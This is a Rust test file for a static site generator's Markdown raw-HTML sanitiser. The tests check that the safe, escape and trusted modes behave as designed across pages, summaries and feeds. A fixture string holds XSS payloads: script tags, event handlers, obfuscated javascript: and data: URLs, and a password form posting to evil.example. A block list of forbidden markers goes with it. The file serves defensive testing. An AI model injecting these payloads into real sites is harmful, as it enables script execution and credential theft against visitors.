//! Raw HTML in Markdown (`[markdown] raw_html`): by default ("safe") whatever could run a script,
//! send a form or restyle the site is removed from pages, summaries and feeds, while ordinary
//! formatting, figures, details and video embeds from the allowed hosts are kept; shortcode output
//! is never touched. "escape" prints the author's HTML as text; "trusted" passes it through.

use crate::site_fixture::{Fixture, BASE};
use crate::site_statistics::statistics_site;

/// Every way in the attacks below could run a script, load from elsewhere or send a form.
const ATTACKS: &str = r#"Before the cut <script>alert("summary")</script> <img src="a.png" onerror="alert('summary')" alt="A">.

<!-- more -->

<script>alert(1)</script>

<img src="photo.jpg" onerror="alert(2)" alt="Photo">

[Markdown link](javascript:alert(3)) and <a href="javascript:alert(4)">HTML link</a> and
<a href="JaVaScRiPt&#58;alert(5)">entity link</a> and <a href=" java&#x09;script:alert(6)">tab link</a>.

![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+) <a href="data:text/html,<script>alert(8)</script>">data link</a>

<style>body { display: none }</style>

<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>

<div style="position: fixed; inset: 0" onclick="alert(9)">Overlay</div>

# Heading {onmouseover=alert(10)}

<svg onload="alert(11)"><circle r="4"/></svg> <object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf"> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"> <iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(12)</script>"></iframe> <math><mi xlink:href="javascript:alert(13)">x</mi></math>
"#;

/// What must be in no page, summary or feed built from [`ATTACKS`].
const FORBIDDEN: &[&str] = &[
    "<script",
    "alert(",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "javascript:",
    "data:",
    "<style",
    "<form",
    "<input",
    "<button",
    "evil.example",
    "position: fixed",
    "<svg",
    "<object",
    "<embed",
    "<base",
    "<meta http-equiv",
    "srcdoc",
];

fn site(config: &str, page: &str) -> Fixture {
    let f = Fixture::new();
    f.file(
        "config.toml",
        &format!(
            "title = \"Test site\"\nbase_url = \"{BASE}\"\nauthor = \"Press office\"\n{config}"
        ),
    );
    f.news_section("sort_by = \"date\"");
    f.file(
        "content/news/2025-01-02-release.md",
        &format!("+++\ntitle = \"Release\"\ndate = 2025-01-02\n+++\n{page}"),
    );
    f
}

/// The `<main>` element of a page: what its Markdown became (the theme around it is not the
/// author's).
fn main_of(page: &str) -> &str {
    let start = page.find("<main").expect("a <main>");
    &page[start..page.find("</main>").expect("a </main>")]
}

fn assert_clean(what: &str, text: &str) {
    for bad in FORBIDDEN {
        assert!(!text.contains(bad), "{what} contains {bad:?}:\n{text}");
    }
}

/// The text of every entry's content in an Atom feed (XML entities decoded: the HTML itself).
fn feed_contents(xml: &str) -> Vec<String> {
    let feed = feed_rs::parser::parse(xml.as_bytes()).expect("valid Atom");
    feed.entries
        .into_iter()
        .map(|e| e.content.and_then(|c| c.body).unwrap_or_default())
        .collect()
}

#[test]
fn every_attack_is_removed_from_pages_summaries_and_feeds_by_default() {
    let f = site("", ATTACKS);
    f.build().unwrap();
    let page = f.read("news/release/index.html");
    assert_clean("the page", main_of(&page));
    assert!(page.contains("alt=\"Photo\""), "the image stays: {page}");
    assert!(page.contains(">Markdown link</a>"), "{page}");
    assert!(page.contains(">Overlay</div>"), "{page}");
    assert_clean(
        "the news list (summary)",
        main_of(&f.read("news/index.html")),
    );
    assert_clean("the home page", main_of(&f.read("index.html")));
    for feed in ["atom.xml", "news/atom.xml"] {
        let contents = feed_contents(&f.read(feed));
        assert_eq!(contents.len(), 1, "{feed}");
        assert_clean(feed, &contents[0]);
        assert!(
            contents[0].contains("alt=\"Photo\""),
            "{feed}: {}",
            contents[0]
        );
    }
}

#[test]
fn ordinary_formatting_tables_figures_and_details_are_kept() {
    let page = r#"Some <b>bold</b>, <i>italic</i>, <sup>2</sup>, <abbr title="International Organization for Migration">IOM</abbr> and a <a href="https://www.iom.int/" title="IOM">link</a>.

<figure>

![Officers in training](/images/training.jpg)

<figcaption>Officers in training, <time datetime="2025-01">January 2025</time>.</figcaption>
</figure>

<details>
<summary>How we counted</summary>

Cases are counted **once**, when registered.

</details>

<table><caption>Trainings</caption><thead><tr><th scope="col">City</th><th scope="col">Officers</th></tr></thead><tbody><tr><td>Beirut</td><td>40</td></tr></tbody></table>

| left | right |
|:-----|------:|
| a    | 1     |
"#;
    let f = site("", page);
    f.build().unwrap();
    let html = f.read("news/release/index.html");
    for kept in [
        "<b>bold</b>",
        "<i>italic</i>",
        "<sup>2</sup>",
        "<abbr title=\"International Organization for Migration\">IOM</abbr>",
        "<a href=\"https://www.iom.int/\" title=\"IOM\">link</a>",
        "<figure>",
        &format!("<img src=\"{BASE}images/training.jpg\" alt=\"Officers in training\">"),
        "<figcaption>Officers in training, <time datetime=\"2025-01\">January 2025</time>.</figcaption>",
        "<details>\n<summary>How we counted</summary>",
        "<p>Cases are counted <strong>once</strong>, when registered.</p>",
        "</details>",
        "<caption>Trainings</caption>",
        "<th scope=\"col\">City</th>",
        "<th style=\"text-align:left\">left</th>",
        "<td style=\"text-align:right\">1</td>",
        "<div class=\"table-scroll\" role=\"region\" tabindex=\"0\" aria-label=\"Table\" aria-describedby=\"table-hint-1\">",
        "<p class=\"scroll-hint\" id=\"table-hint-1\">",
    ] {
        assert!(html.contains(kept), "{kept:?} is kept:\n{html}");
    }
}

#[test]
fn video_embeds_from_the_allowed_hosts_are_kept_in_a_sandbox() {
    let page = r#"<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Training video" frameborder="0" allow="camera; microphone" sandbox="allow-top-navigation allow-scripts allow-same-origin" allowfullscreen></iframe>

<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360"></iframe>

<iframe src="https://www.youtube.com/embed/abc"></iframe>

<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe> <iframe src="http://www.youtube.com/embed/plain-http"></iframe> <iframe src="https://www.youtube.com/watch?v=not-an-embed"></iframe>
"#;
    let f = site("", page);
    f.build().unwrap();
    let html = f.read("news/release/index.html");
    let sandbox = "sandbox=\"allow-scripts allow-same-origin allow-popups allow-presentation\"";
    for src in [
        "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
        "https://player.vimeo.com/video/76979871",
        "https://www.youtube.com/embed/abc",
    ] {
        let at = html
            .find(&format!("src=\"{src}\""))
            .unwrap_or_else(|| panic!("{src} is kept:\n{html}"));
        let start = html[..at].rfind("<iframe").unwrap();
        let tag = &html[start..start + html[start..].find('>').unwrap()];
        assert!(tag.contains(sandbox), "{tag}");
        assert!(
            tag.contains("referrerpolicy=\"strict-origin-when-cross-origin\""),
            "{tag}"
        );
        assert!(tag.contains("allowfullscreen"), "{tag}");
    }
    assert!(html.contains("width=\"560\" height=\"315\""), "{html}");
    assert!(html.contains("title=\"Training video\""), "{html}");
    for gone in [
        "allow-top-navigation",
        "camera",
        "frameborder",
        "evil.example",
        "plain-http",
        "not-an-embed",
    ] {
        assert!(!html.contains(gone), "{gone} is removed:\n{html}");
    }
}

/// The `<figure class="stat-chart">…</figure>` and `<div class="stat-table-wrap">…</a></p>` (the
/// table, its scroll hint and its link) embeds of a page, as they are written.
fn embeds(page: &str) -> Vec<&str> {
    let mut spans: Vec<(usize, usize)> = Vec::new();
    for (open, close) in [
        ("<figure class=\"stat-chart\">", "</figure>"),
        ("<div class=\"stat-table-wrap\"", "</a></p>"),
    ] {
        for (at, _) in page.match_indices(open) {
            // A chart's data table, inside the chart's figure, is part of the chart.
            if spans.iter().any(|&(start, end)| start < at && at < end) {
                continue;
            }
            let end = at + page[at..].find(close).unwrap() + close.len();
            spans.push((at, end));
        }
    }
    spans
        .iter()
        .map(|&(start, end)| &page[start..end])
        .collect()
}

#[test]
fn shortcode_output_is_never_touched_by_the_sanitiser() {
    let trusted = statistics_site();
    let config = trusted.read_source("config.toml");
    trusted.file(
        "config.toml",
        &format!("{config}\n[markdown]\nraw_html = \"trusted\"\n"),
    );
    trusted.build().unwrap();
    let safe = statistics_site();
    safe.build().unwrap();
    let trusted_page = trusted.read("news/annual-figures/index.html");
    let safe_page = safe.read("news/annual-figures/index.html");
    let wanted = embeds(&trusted_page);
    assert_eq!(wanted.len(), 4, "three charts and a table");
    assert_eq!(embeds(&safe_page), wanted);
    assert_eq!(safe_page.matches("<svg").count(), 3);
    assert!(!safe_page.contains("data-safestat-embed"), "{safe_page}");
}

#[test]
fn escape_prints_the_authors_html_as_text_and_keeps_shortcodes() {
    let f = statistics_site();
    let config = f.read_source("config.toml");
    f.file(
        "config.toml",
        &format!("{config}\n[markdown]\nraw_html = \"escape\"\n"),
    );
    let release = f.read_source("content/news/annual-figures.md");
    f.file(
        "content/news/annual-figures.md",
        &release.replace(
            "We registered",
            "<b>Bold?</b> <script>alert(1)</script> [x](javascript:alert(2)) We registered",
        ),
    );
    f.build().unwrap();
    let page = f.read("news/annual-figures/index.html");
    assert!(
        page.contains("&lt;b&gt;Bold?&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt;"),
        "{page}"
    );
    assert!(
        !page.contains("<script") && !page.contains("javascript:"),
        "{page}"
    );
    assert_eq!(page.matches("<svg").count(), 3, "the charts are kept");
}

#[test]
fn trusted_passes_the_authors_html_through_as_written() {
    let f = site(
        "[markdown]\nraw_html = \"trusted\"\n",
        "<script>console.log(\"analytics\")</script>\n\n<form action=\"/search/\"><input name=\"q\"></form>\n",
    );
    f.build().unwrap();
    let page = f.read("news/release/index.html");
    assert!(
        page.contains("<script>console.log(\"analytics\")</script>"),
        "{page}"
    );
    assert!(page.contains("<form action=\"/search/\"><input name=\"q\"></form>"));
}

#[test]
fn an_unknown_setting_names_the_file_line_and_column() {
    let f = site("[markdown]\nraw_html = \"unsafe\"\n", "Text.\n");
    let err = f.build_err();
    assert!(err.contains("config.toml:5:12"), "{err}");
    assert!(err.contains("unsafe"), "{err}");
    for value in ["safe", "escape", "trusted"] {
        assert!(err.contains(&format!("`{value}`")), "{err}");
    }
}

#[test]
fn the_user_guide_documents_every_setting() {
    let guide = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/content.md"),
    )
    .unwrap();
    for value in ["safe", "escape", "trusted"] {
        assert!(
            guide.contains(&format!("raw_html = \"{value}\"")),
            "{value}"
        );
    }
    let readme =
        std::fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md"))
            .unwrap();
    assert!(
        readme.contains("docs/content.md"),
        "the README links the guide"
    );
}
